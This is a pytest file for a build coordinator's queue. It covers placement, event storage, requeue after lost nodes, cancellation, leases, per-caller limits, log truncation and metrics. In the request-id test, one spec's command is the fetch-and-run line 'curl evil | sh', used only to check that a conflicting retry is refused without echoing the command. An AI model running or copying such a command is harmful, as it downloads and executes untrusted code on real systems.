"""The build queue on a fake clock with the in-memory store: placement, events, requeue, cancel."""

from __future__ import annotations

import asyncio
import hashlib

import pytest
from prometheus_client import CollectorRegistry

from stoker.coordinator.config import BuildSettings
from stoker.coordinator.core.errors import (
    AlreadyExists,
    FailedPrecondition,
    NotFound,
    ResourceExhausted,
    Unavailable,
)
from stoker.coordinator.core.metrics import CoordinatorMetrics
from stoker.coordinator.core.state import MemoryStateStore
from stoker.coordinator.placement.build_queue import AgentLink, BuildQueue
from stoker.coordinator.placement.domain import EntryRecord, NodeInfo, NodeState
from stoker.coordinator.placement.inventory import InventoryIndex
from stoker.coordinator.placement.registry import NodeRegistry
from stoker.coordinator.placement.scheduler import Scheduler
from stoker.coordinator.rpc import convert
from stoker.v1 import agent_pb2, build_pb2, common_pb2
from tests.helpers.clock import FakeClock


class World:
    def __init__(self, store=None, settings: BuildSettings | None = None) -> None:
        self.clock = FakeClock()
        self.registry = NodeRegistry(self.clock, lease_ttl_s=10)
        self.inventory = InventoryIndex()
        self.store = store or MemoryStateStore()
        self.scheduler = Scheduler(self.inventory, self.clock)
        self.prom = CollectorRegistry()
        self.service = BuildQueue(
            settings or BuildSettings(max_attempts=3),
            self.registry,
            self.inventory,
            self.scheduler,
            self.store,
            self.clock,
            CoordinatorMetrics(self.prom),
        )
        self.links: dict[str, AgentLink] = {}

    def add_node(self, name: str, zone: str = "a", slots: int = 1) -> AgentLink:
        rec = self.registry.register(NodeInfo(name=name, zone=zone, slots=slots, executor="podman"))
        self.registry.attach(name, rec.session_id)
        link = AgentLink(name, rec.session_id)
        self.links[name] = link
        self.service.attach(link)
        self.service.heartbeat(name, rec.session_id, agent_pb2.Heartbeat())
        return link

    def reconnect(self, name: str, running=()) -> None:
        """The node's agent registers again (a new session) and its first heartbeat reports ``running``."""
        rec = self.registry.register(NodeInfo(name=name, zone="a", slots=1, executor="podman"))
        self.registry.attach(name, rec.session_id)
        link = AgentLink(name, rec.session_id)
        self.links[name] = link
        self.service.attach(link)
        self.service.heartbeat(
            name,
            rec.session_id,
            agent_pb2.Heartbeat(running=[agent_pb2.RunningBuild(build_id=b, attempt=a) for b, a in running]),
        )

    def commands(self, name: str) -> list[agent_pb2.CoordinatorCommand]:
        out = []
        q = self.links[name].outbox
        while not q.empty():
            item = q.get_nowait()
            if item is not None:
                out.append(item)
        return out

    def finish(self, node: str, build_id: str, attempt: int, exit_code: int = 0) -> None:
        state = build_pb2.BUILD_STATE_SUCCEEDED if exit_code == 0 else build_pb2.BUILD_STATE_FAILED
        self.service.build_update(
            node,
            agent_pb2.BuildUpdate(
                build_id=build_id,
                attempt=attempt,
                event=build_pb2.BuildEvent(
                    finished=build_pb2.Finished(state=state, exit_code=exit_code, message="done")
                ),
            ),
        )


def spec(zone: str = "") -> common_pb2.BuildSpec:
    return common_pb2.BuildSpec(
        workspace="web",
        command=["true"],
        cache=common_pb2.CacheSpec(key="web/k", paths=["nm"]),
        constraints=common_pb2.Constraints(zone=zone),
    )


def run(coro):
    return asyncio.run(coro)


def test_no_nodes_is_unavailable_and_unsatisfiable_is_failed_precondition():
    async def body():
        w = World()
        with pytest.raises(Unavailable):
            w.service.submit(spec())
        w.add_node("n1", zone="a")
        with pytest.raises(FailedPrecondition, match="zone=b"):
            w.service.submit(spec(zone="b"))
        with pytest.raises(NotFound):
            w.service.get("b-nope")

    run(body())


def test_build_is_dispatched_and_events_are_numbered_and_stored():
    async def body():
        w = World()
        w.add_node("n1")
        build_id = w.service.submit(spec())
        [cmd] = w.commands("n1")
        assert cmd.run_build.build_id == build_id and cmd.run_build.attempt == 1
        assert cmd.run_build.spec.timeout_s > 0  # the default was filled in
        w.service.build_update(
            "n1",
            agent_pb2.BuildUpdate(
                build_id=build_id, attempt=1, event=build_pb2.BuildEvent(log=build_pb2.LogLine(text="hello"))
            ),
        )
        w.finish("n1", build_id, 1)
        events = [e async for e in w.service.watch(build_id)]
        kinds = [e.WhichOneof("kind") for e in events]
        assert kinds == ["placed", "log", "finished"]
        assert [e.seq for e in events] == [1, 2, 3]
        assert w.service.get(build_id).state == build_pb2.BUILD_STATE_SUCCEEDED
        assert [e.seq for e in w.store.events(build_id)] == [1, 2, 3]
        assert [e.seq for e in [e async for e in w.service.watch(build_id, after_seq=2)]] == [3]

    run(body())


def test_busy_fleet_queues_with_a_reason_then_places_when_a_slot_frees():
    async def body():
        w = World()
        w.add_node("n1")
        first = w.service.submit(spec())
        second = w.service.submit(spec())
        assert w.service.get(second).state == build_pb2.BUILD_STATE_QUEUED
        queued = [e for e in w.store.events(second) if e.WhichOneof("kind") == "queued"]
        assert len(queued) == 1 and "all busy" in queued[0].queued.reason  # once (issue 17, item 6: twice)
        w.commands("n1")
        w.finish("n1", first, 1)
        [cmd] = w.commands("n1")
        assert cmd.run_build.build_id == second

    run(body())


def test_lost_node_requeues_and_stale_attempt_is_ignored():
    async def body():
        w = World()
        w.add_node("n1")
        build_id = w.service.submit(spec())
        w.commands("n1")
        w.service.detach(w.links["n1"])
        w.clock.t += 11
        w.add_node("n2")
        assert w.prom.get_sample_value("stoker_coordinator_nodes_lost_total") == 0
        w.service.tick()
        assert w.service.get(build_id).attempt == 2
        assert w.prom.get_sample_value("stoker_coordinator_nodes_lost_total") == 1  # the agents-lost alert
        [cmd] = w.commands("n2")
        assert cmd.run_build.attempt == 2
        w.finish("n1", build_id, 1, exit_code=5)  # the lost node's late report: ignored
        assert w.service.get(build_id).state == build_pb2.BUILD_STATE_RUNNING
        w.finish("n2", build_id, 2)
        events = [e async for e in w.service.watch(build_id)]
        kinds = [e.WhichOneof("kind") for e in events]
        assert kinds == ["placed", "retrying", "placed", "finished"]
        assert events[-1].finished.state == build_pb2.BUILD_STATE_SUCCEEDED
        assert sum(1 for k in kinds if k == "finished") == 1

    run(body())


def test_reconnected_node_without_the_build_gets_it_requeued_and_unknown_builds_cancelled():
    async def body():
        w = World()
        w.add_node("n1")
        build_id = w.service.submit(spec())
        w.commands("n1")
        w.service.detach(w.links["n1"])
        # The agent restarts within the lease and reports nothing running, plus a build it should not run.
        w.reconnect("n1", running=[("b-ghost", 1)])
        cmds = w.commands("n1")
        kinds = [c.WhichOneof("command") for c in cmds]
        assert (
            "cancel_build" in kinds and cmds[kinds.index("cancel_build")].cancel_build.build_id == "b-ghost"
        )
        runs = [c.run_build for c in cmds if c.WhichOneof("command") == "run_build"]
        assert [(r.build_id, r.attempt) for r in runs] == [(build_id, 2)]

    run(body())


def test_cancel_queued_build_finishes_it_and_running_build_sends_cancel():
    async def body():
        w = World()
        w.add_node("n1")
        running = w.service.submit(spec())
        queued = w.service.submit(spec())
        w.commands("n1")
        assert w.service.cancel(queued, "").state == build_pb2.BUILD_STATE_CANCELLED
        w.service.cancel(running, "stop it")
        [cmd] = w.commands("n1")
        assert cmd.cancel_build.build_id == running and cmd.cancel_build.reason == "stop it"

    run(body())


def test_max_attempts_ends_in_error():
    async def body():
        w = World()
        build_id = None
        for attempt in range(1, 4):
            w.add_node(f"n{attempt}")
            if build_id is None:
                build_id = w.service.submit(spec())
            w.service.detach(w.links[f"n{attempt}"])
            w.clock.t += 11
            w.service.tick()
        record = w.service.get(build_id)
        assert record.state == build_pb2.BUILD_STATE_ERROR and "gave up after 3 attempts" in record.message

    run(body())


def test_placement_lease_holds_a_slot_until_released():
    async def body():
        w = World()
        w.add_node("n1")
        placement = await w.service.place(spec(), lease_s=60)
        assert placement.node == "n1" and placement.lease_id
        build_id = w.service.submit(spec())
        assert w.service.get(build_id).state == build_pb2.BUILD_STATE_QUEUED
        assert w.service.release(placement.lease_id)
        assert not w.service.release(placement.lease_id)
        assert w.service.get(build_id).state == build_pb2.BUILD_STATE_RUNNING

    run(body())


def test_released_and_expired_placements_leave_nothing_running_in_the_scheduler():
    """The scheduler counts a placement as running under its lease id until it is released or expires (a
    placement once stayed counted for ever: its tenant's running count and the coordinator's memory grew
    with every placement)."""

    async def body():
        w = World()
        w.add_node("n1", slots=4)
        for _ in range(50):
            placement = await w.service.place(spec(), lease_s=60)
            assert w.scheduler.tracked()["running"] == 1
            assert w.service.release(placement.lease_id)
            assert w.scheduler.tracked()["running"] == 0
        await w.service.place(spec(), lease_s=5)
        assert w.scheduler.tracked()["running"] == 1
        w.clock.t += 6
        w.service.tick()
        assert w.scheduler.tracked()["running"] == 0

    run(body())


def test_every_ended_placement_is_kept_for_the_history_and_a_failing_store_costs_only_the_record():
    """An ended lease becomes a placement-only record (released, expired, its node lost); a state store
    that fails to keep it must not keep the slot, the scheduler's count or the agent's lease."""

    class FailingPlacements(MemoryStateStore):
        def put_placement(self, record):
            raise Unavailable("state store: disk I/O error")

    async def body():
        w = World()
        w.add_node("n1", slots=3)
        released = await w.service.place(spec(), lease_s=60)
        expiring = await w.service.place(spec(), lease_s=5)
        lost = await w.service.place(spec(), lease_s=60)
        assert w.service.release(released.lease_id)
        w.clock.t += 6
        w.service.tick()
        w.service.detach(w.links["n1"])
        w.clock.t += 11
        w.service.tick()
        states = {p.id: (p.state, p.node) for p in w.store.placements_since(0)}
        assert states == {
            released.lease_id: (build_pb2.BUILD_STATE_SUCCEEDED, "n1"),
            expiring.lease_id: (build_pb2.BUILD_STATE_TIMED_OUT, "n1"),
            lost.lease_id: (build_pb2.BUILD_STATE_ERROR, "n1"),
        }

        w = World(store=FailingPlacements())
        w.add_node("n1")
        placement = await w.service.place(spec(), lease_s=60)
        w.commands("n1")
        assert w.service.release(placement.lease_id)
        assert w.scheduler.tracked()["running"] == 0 and not w.registry.find("n1").holders
        assert [c.drop_lease.lease_id for c in w.commands("n1")] == [placement.lease_id]

    run(body())


def test_an_agents_repeated_events_are_dropped_even_after_a_restart_and_each_is_acknowledged(tmp_path):
    """After a reconnection the agent sends every event the coordinator has not acknowledged again; the ones
    stored already (by this coordinator or by the one before a restart) must not be recorded twice."""
    from stoker.coordinator.core.state import SqliteStateStore

    def update(build_id: str, seq: int, text: str) -> agent_pb2.BuildUpdate:
        event = build_pb2.BuildEvent(log=build_pb2.LogLine(text=text))
        return agent_pb2.BuildUpdate(build_id=build_id, attempt=1, event=event, agent_seq=seq)

    def lines(w: World, build_id: str) -> list[str]:
        return [e.log.text for e in w.store.events(build_id) if e.HasField("log")]

    async def body():
        w = World(store=SqliteStateStore(tmp_path / "state.db"))
        w.add_node("n1")
        build_id = w.service.submit(spec())
        for seq, text in ((1, "a"), (2, "b"), (1, "a"), (3, "c"), (2, "b")):
            w.service.build_update("n1", update(build_id, seq, text))
        assert lines(w, build_id) == ["a", "b", "c"]
        # The same through the agent's stream: acknowledged once per attempt for what arrived together.
        w.links["n1"].ack(build_id, 1, 2)
        w.links["n1"].ack(build_id, 1, 3)
        await asyncio.sleep(0)
        acks = [c.ack_build_events for c in w.commands("n1") if c.HasField("ack_build_events")]
        assert [(a.build_id, a.attempt, a.agent_seq) for a in acks] == [(build_id, 1, 3)]
        # A node that does not read its stream, sending updates of builds it makes up, queues no more than
        # the link's bound of acknowledgements (advice: a dropped one costs a repeat, nothing else).
        link = w.links["n1"]
        for i in range(AgentLink.MAX_ADVISORY + 500):
            w.service.build_update("n1", update(f"b-made-up-{i}", 1, "x"))
            link.ack(f"b-made-up-{i}", 1, 1)
        await asyncio.sleep(0)
        assert link.outbox.qsize() == AgentLink.MAX_ADVISORY

        restarted = World(store=w.store)
        assert restarted.service.recover() == 1
        restarted.reconnect("n1", running=[(build_id, 1)])
        for seq, text in ((2, "b"), (3, "c"), (4, "d")):
            restarted.service.build_update("n1", update(build_id, seq, text))
        assert lines(restarted, build_id) == ["a", "b", "c", "d"]

    run(body())


def test_a_finished_build_has_its_nodes_superseded_entries_evicted_even_with_nothing_queued():
    """The scheduler's evictions (and prewarms) go out when they are asked, not with the next placement."""

    async def body():
        w = World()
        w.add_node("n1")
        w.inventory.apply_snapshot(
            "n1",
            0,
            [EntryRecord("web/deps-1", 10, 1, 1.0, 1.0, ()), EntryRecord("web/deps-2", 10, 1, 2.0, 2.0, ())],
        )
        build_id = w.service.submit(
            common_pb2.BuildSpec(
                workspace="web",
                command=["true"],
                cache=common_pb2.CacheSpec(key="web/deps-2", restore_keys=["web/deps-"], paths=["nm"]),
            )
        )
        assert [c.WhichOneof("command") for c in w.commands("n1")] == ["run_build"]
        finished = build_pb2.Finished(
            state=build_pb2.BUILD_STATE_SUCCEEDED, message="done", timings=common_pb2.Timings(run_s=5.0)
        )
        w.service.build_update(
            "n1",
            agent_pb2.BuildUpdate(
                build_id=build_id, attempt=1, event=build_pb2.BuildEvent(finished=finished)
            ),
        )
        [evict] = w.commands("n1")
        assert evict.evict.key == "web/deps-1"

    run(body())


def test_recover_reloads_unfinished_builds(tmp_path):
    from stoker.coordinator.core.state import SqliteStateStore

    async def body():
        db = tmp_path / "s.db"
        w = World(SqliteStateStore(db))
        w.add_node("n1")
        running = w.service.submit(spec())
        queued = w.service.submit(spec())
        w.store.close()
        w2 = World(SqliteStateStore(db))
        assert w2.service.recover() == 2
        assert w2.service.get(queued).state == build_pb2.BUILD_STATE_QUEUED
        assert w2.service.get(running).node == "n1"
        # n1 comes back and reports the build still running: it keeps it, then finishes it once.
        w2.reconnect("n1", running=[(running, 1)])
        assert w2.service.get(running).attempt == 1
        w2.finish("n1", running, 1)
        assert w2.service.get(running).state == build_pb2.BUILD_STATE_SUCCEEDED
        [cmd] = [c for c in w2.commands("n1") if c.WhichOneof("command") == "run_build"]
        assert cmd.run_build.build_id == queued

    run(body())


def test_advice_is_dropped_for_a_stream_that_far_behind_but_builds_are_always_queued():
    link = AgentLink("n1", "s1")
    prewarm = agent_pb2.CoordinatorCommand(prewarm=agent_pb2.PrewarmCommand(key="web/k"))
    assert all(link.send(prewarm, advisory=True) for _ in range(AgentLink.MAX_ADVISORY))
    assert not link.send(prewarm, advisory=True)
    assert link.send(agent_pb2.CoordinatorCommand(cancel_build=agent_pb2.CancelBuildCommand(build_id="b-1")))
    assert link.outbox.qsize() == AgentLink.MAX_ADVISORY + 1


def test_a_placement_whose_caller_went_away_while_queued_is_never_granted_or_counted():
    """A caller that gives up while its placement waits (its RPC cancelled) leaves the queue; the freed slot
    is not granted to nobody, and the scheduler does not count a placement that never started."""

    async def body():
        w = World()
        w.add_node("n1")
        first = await w.service.place(spec(), lease_s=60)
        waiting = asyncio.ensure_future(w.service.place(spec(), lease_s=60))
        await asyncio.sleep(0)
        assert w.service.queue_length() == 1
        waiting.cancel()
        with pytest.raises(asyncio.CancelledError):
            await waiting
        assert w.service.queue_length() == 0
        assert w.service.release(first.lease_id)
        assert w.scheduler.tracked()["running"] == 0
        again = await w.service.place(spec(), lease_s=60)  # the slot is free for the next caller
        assert again.node == "n1" and w.scheduler.tracked()["running"] == 1

    run(body())


def test_a_request_id_is_the_callers_own_and_bound_to_its_spec():
    """Issue 16, item 4: the same id and spec return the same build (a retry); the same id with another
    spec is ALREADY_EXISTS naming what differs; another principal's id of the same text is another build
    (it can neither pre-claim nor find the first principal's)."""

    async def body():
        w = World()
        w.add_node("n1", slots=4)
        first = w.service.submit(spec(), "run-42", owner="ci-main")
        assert w.service.submit(spec(), "run-42", owner="ci-main") == first
        other = spec()
        other.command[:] = ["sh", "-c", "curl evil | sh"]
        other.env["X"] = "1"
        with pytest.raises(AlreadyExists) as refused:
            w.service.submit(other, "run-42", owner="ci-main")
        assert "spec.command, spec.env" in str(refused.value) and "curl" not in str(refused.value)
        theirs = w.service.submit(other, "run-42", owner="ci-pr")
        assert theirs != first and w.service.get(theirs).owner == "ci-pr"
        assert w.service.get(first).spec.command == ["true"]  # the first build is untouched
        assert w.service.submit(spec(), "run-43", owner="ci-main") not in (first, theirs)

    run(body())


def test_one_caller_may_have_only_so_many_builds_and_placements_waiting():
    """builds.max_queued_per_principal: past it a caller's new work is RESOURCE_EXHAUSTED (so one token
    cannot fill the coordinator's memory and database); its retries of a queued build still answer, other
    callers are not held back, and room comes back as its work starts."""

    async def body():
        w = World(settings=BuildSettings(max_attempts=3, max_queued_per_principal=2))
        w.add_node("n1", slots=1)
        running = w.service.submit(spec(), owner="pr")
        queued = [w.service.submit(spec(), f"r{i}", owner="pr") for i in range(2)]
        with pytest.raises(ResourceExhausted, match="2 builds and placements waiting"):
            w.service.submit(spec(), "r9", owner="pr")
        with pytest.raises(ResourceExhausted):
            await w.service.place(spec(), lease_s=60, owner="pr")
        assert w.service.submit(spec(), "r1", owner="pr") == queued[1]  # a retry of a queued build
        other = w.service.submit(spec(), owner="main")  # another caller is not held back
        assert w.service.get(other).state == build_pb2.BUILD_STATE_QUEUED
        w.finish("n1", running, 1)  # the first queued one starts: room for one more
        assert w.service.get(queued[0]).state == build_pb2.BUILD_STATE_RUNNING
        w.service.submit(spec(), "r3", owner="pr")
        with pytest.raises(ResourceExhausted):
            w.service.submit(spec(), "r4", owner="pr")
        for _ in range(3):  # without a token (no owner) nothing is counted
            w.service.submit(spec())

    run(body())


def test_output_past_the_bound_is_counted_not_kept_and_its_tail_comes_at_the_end():
    """Issue 16, item 3: 100 MB of output added ~90 MB to the coordinator's memory and 100 MB to its
    database, kept forever. Past builds.max_log_bytes lines are dropped and counted; the tail is sent last."""

    async def body():
        w = World(settings=BuildSettings(max_attempts=3, max_log_bytes=100, max_log_tail_bytes=30))
        w.add_node("n1")
        build_id = w.service.submit(spec())
        [cmd] = w.commands("n1")
        for i in range(50):  # "line-00".."line-49": 8 bytes each with the newline
            w.service.build_update(
                "n1",
                agent_pb2.BuildUpdate(
                    build_id=build_id,
                    attempt=1,
                    event=build_pb2.BuildEvent(log=build_pb2.LogLine(text=f"line-{i:02d}")),
                ),
            )
        w.finish("n1", build_id, 1)
        events = [e async for e in w.service.watch(build_id)]
        lines = [e.log.text for e in events if e.HasField("log")]
        assert lines[:12] == [f"line-{i:02d}" for i in range(12)]  # 96 bytes kept
        note = "output past 100 bytes (builds.max_log_bytes) not kept: 35 lines (280 bytes) dropped"
        assert lines[12] == f"stoker: {note}; its last 3 lines follow"
        assert lines[13:] == ["line-47", "line-48", "line-49"]  # the tail: 24 bytes of at most 30
        [marked] = [e.log for e in events if e.HasField("log") and e.log.text.startswith("stoker: ")]
        assert marked.stream == build_pb2.LogLine.STREAM_STOKER
        assert events[-1].finished.message == f"done; {note}"
        assert w.service.get(build_id).message == f"done; {note}"

    run(body())


def test_finished_builds_older_than_the_history_setting_are_deleted():
    async def body():
        w = World(settings=BuildSettings(max_attempts=3, history_days=1))
        w.add_node("n1")
        build_id = w.service.submit(spec())
        w.commands("n1")
        w.finish("n1", build_id, 1)
        w.service.tick()
        assert w.store.get_build(build_id) is not None  # a day has not passed
        w.clock.t += 86400 + 61
        w.service.tick()
        assert w.store.get_build(build_id) is None and w.store.events(build_id) == []

    run(body())


def test_a_build_recovered_after_a_restart_keeps_its_true_queue_wait():
    """Issue 17, item 1: the recovered build reported a queue wait equal to its whole duration."""

    async def body():
        store = MemoryStateStore()
        first = World(store)
        first.add_node("n1")
        build_id = first.service.submit(spec())
        first.commands("n1")  # placed at t=1000, at once
        later = World(store)  # the coordinator restarts; 100 s later the build ends
        later.clock.t = 1100.0
        assert later.service.recover() == 1
        later.reconnect("n1", running=[(build_id, 1)])  # the node still runs it
        later.service.build_update(
            "n1",
            agent_pb2.BuildUpdate(
                build_id=build_id,
                attempt=1,
                event=build_pb2.BuildEvent(
                    finished=build_pb2.Finished(state=build_pb2.BUILD_STATE_SUCCEEDED)
                ),
            ),
        )
        record = later.service.get(build_id)
        assert record.state == build_pb2.BUILD_STATE_SUCCEEDED
        assert record.timings.queued_s == 0.0 and record.timings.total_s == 100.0, record.timings

    run(body())


def test_slots_queue_wait_and_time_to_ready_are_exported_as_the_dashboards_read_them():
    """The fleet dashboard's slots, queue-wait p95 and time-to-ready-by-warmth panels read these."""

    async def body():
        w = World()
        metric = w.prom.get_sample_value
        w.add_node("n1", slots=2)
        w.add_node("n2", slots=1)
        assert metric("stoker_coordinator_slots", {"state": "total"}) == 3
        first = w.service.submit(spec())
        w.service.submit(spec())
        w.service.submit(spec())
        assert metric("stoker_coordinator_slots", {"state": "busy"}) == 3
        fourth = w.service.submit(spec())  # waits: every slot is held
        w.clock.t += 40.0
        node = w.service.get(first).node
        w.service.build_update(
            node,
            agent_pb2.BuildUpdate(
                build_id=first,
                attempt=1,
                event=build_pb2.BuildEvent(
                    finished=build_pb2.Finished(
                        state=build_pb2.BUILD_STATE_SUCCEEDED,
                        timings=common_pb2.Timings(pull_s=1.5, restore_s=2.0, run_s=30.0),
                        cache=common_pb2.CacheFigures(warmth=common_pb2.WARMTH_PARTIAL),
                    )
                ),
            ),
        )
        assert w.service.get(fourth).state == build_pb2.BUILD_STATE_RUNNING  # into the freed slot
        assert metric("stoker_coordinator_slots", {"state": "busy"}) == 3
        assert metric("stoker_coordinator_queue_wait_seconds_count") == 4
        assert metric("stoker_coordinator_queue_wait_seconds_sum") == 40.0  # three at once, one after 40 s
        assert metric("stoker_coordinator_queue_wait_seconds_bucket", {"le": "30.0"}) == 3
        # placed at once: ready after the pull and the restore the agent reported
        assert metric("stoker_coordinator_time_to_ready_seconds_sum", {"warmth": "partial"}) == 3.5
        assert metric("stoker_coordinator_time_to_ready_seconds_count", {"warmth": "warm"}) is None
        n2 = w.registry.get("n2")
        w.registry.detach("n2", n2.session_id)  # its stream closed: its slots are not counted
        assert n2.state is NodeState.DISCONNECTED
        assert metric("stoker_coordinator_slots", {"state": "total"}) == 2

    run(body())


def test_a_lease_reaches_its_node_and_only_that_nodes_reports_on_it_count():
    """Placement-only mode (issue 17, item 3): the placed node's agent is granted the lease (the bound spec,
    the SHA-256 of the secret only the caller got) again after a reconnect, and told when it ends; reports
    on a lease count only from the node it was granted to, and its run time teaches the scheduler."""

    async def body():
        w = World()
        w.add_node("n1")
        w.add_node("n2")
        placement = await w.service.place(spec(), lease_s=60)
        node, other = placement.node, "n2" if placement.node == "n1" else "n1"
        [grant] = [c.grant_lease for c in w.commands(node) if c.HasField("grant_lease")]
        assert grant.lease_id == placement.lease_id and grant.spec.cache.key == "web/k"
        assert grant.secret_sha256 == hashlib.sha256(placement.lease_secret.encode()).digest()
        assert not any(c.HasField("grant_lease") for c in w.commands(other))
        w.reconnect(node)
        assert [c.grant_lease.lease_id for c in w.commands(node) if c.HasField("grant_lease")] == [
            placement.lease_id
        ]

        saved = agent_pb2.LeaseReport(
            lease_id=placement.lease_id,
            saved=True,
            cache=common_pb2.CacheFigures(saved=True),
            timings=common_pb2.Timings(run_s=42.0),
        )
        assert not w.service.lease_report(other, saved)
        assert w.service.lease_report(node, saved)
        foreign = agent_pb2.LeaseReport(
            lease_id=placement.lease_id, restored=True, cache=common_pb2.CacheFigures(restored_key="other/k")
        )
        assert not w.service.lease_report(node, foreign)  # a key the lease may not read vouches for nothing
        assert w.prom.get_sample_value("stoker_coordinator_lease_reports_total", {"kind": "refused"}) == 2
        assert w.service.release(placement.lease_id)
        assert [c.drop_lease.lease_id for c in w.commands(node) if c.HasField("drop_lease")] == [
            placement.lease_id
        ]
        assert w.scheduler.estimator.build_s(convert.placement_request("b-next", spec(), 0.0)) == 42.0
        assert not w.service.lease_report(node, saved)  # the lease is over

    run(body())
